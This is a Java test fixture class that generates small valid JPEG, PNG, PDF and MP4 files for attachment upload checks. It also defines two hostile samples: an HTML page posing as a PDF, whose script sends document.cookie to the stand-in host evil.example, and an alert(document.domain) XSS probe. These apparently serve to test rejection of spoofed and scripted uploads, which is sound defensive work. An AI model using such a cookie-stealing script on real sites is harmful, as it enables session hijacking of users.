package cn.studio.application.attachment;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;

import javax.imageio.ImageIO;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Small but real files (they decode, parse, have a whole container), as the media checks require. */
public final class SampleFiles {
    public static final byte[] JPEG = image("jpeg", Color.ORANGE);
    public static final byte[] PNG = image("png", Color.BLUE);
    public static final byte[] PDF = pdf();
    public static final byte[] MP4 = concat(box("ftyp", "isom\0\0\2\0isomiso2mp41".getBytes(StandardCharsets.ISO_8859_1)),
            box("moov", box("mvhd", new byte[100])), box("mdat", new byte[4000]));
    /** Starts like a PDF, is an HTML page. */
    public static final byte[] HTML_AS_PDF = ("%PDF-1.7\n<html><head><title>推荐材料</title></head><body>"
            + "<script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>\n")
            .getBytes(StandardCharsets.UTF_8);
    public static final byte[] HTML = "<html><body><script>alert(document.domain)</script></body></html>"
            .getBytes(StandardCharsets.UTF_8);

    private SampleFiles() {
    }

    /** Another real JPEG, different from {@link #JPEG}. */
    public static byte[] jpeg(Color color) {
        return image("jpeg", color);
    }

    private static byte[] image(String format, Color color) {
        BufferedImage img = new BufferedImage(320, 240, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = img.createGraphics();
        g.setColor(color);
        g.fillRect(20, 20, 200, 150);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(img, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] pdf() {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.addPage(new PDPage());
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] box(String type, byte[]... payload) {
        byte[] body = concat(payload);
        return concat(ByteBuffer.allocate(8).putInt(8 + body.length).put(type.getBytes(StandardCharsets.ISO_8859_1)).array(), body);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
